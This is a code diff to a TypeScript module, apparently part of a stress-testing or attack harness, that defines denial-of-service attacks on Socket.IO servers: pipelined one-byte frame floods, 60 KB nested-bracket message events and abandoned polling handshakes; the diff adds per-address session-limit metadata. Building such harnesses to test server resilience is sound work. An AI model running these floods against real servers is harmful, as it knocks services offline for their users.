@@ -4,6 +4,7 @@ import { keepConnected } from "../attacker/connect.ts";
 import type { Target } from "../attacker/target.ts";
 import { textFrame } from "../attacker/web-socket-bytes.ts";
 import type { Attack } from "./attack.ts";
+import { type Share, strangersComingBack } from "./share.ts";
 
 const sockets = 8;
 const polling = "/socket.io/?EIO=4&transport=polling";
@@ -11,12 +12,15 @@ const webSocket = "/socket.io/?EIO=4&transport=websocket";
 /** What stands between two packets of one body. */
 const separator = "\x1e";
 const bodyBytes = 60_000;
+/** As many as an address may have sockets that did not authenticate. */
+const sessions: Share = { of: ["200"], atMost: () => 200 };
 
 /** What is done in Socket.IO's dialect. */
 export const socketIo: readonly Attack[] = [
   {
     name: "engine-pongs",
     title: "sends engine.io packets of one byte, pipelined",
+    shares: [strangersComingBack],
     run: (target) => floodFrames(target, { sockets, path: webSocket, next: repeated([textFrame("3")]) }),
   },
   flood("deep-json", "sends events of 60 KB of [ over Socket.IO", () => `42["send_message",${"[".repeat(bodyBytes)}`),
@@ -45,6 +49,7 @@ export const socketIo: readonly Attack[] = [
   {
     name: "polling-handshakes",
     title: "opens sessions of Socket.IO's polling and leaves them",
+    shares: [sessions],
     run: (target) => each(32, () => poll(target, undefined)),
   },
 ];
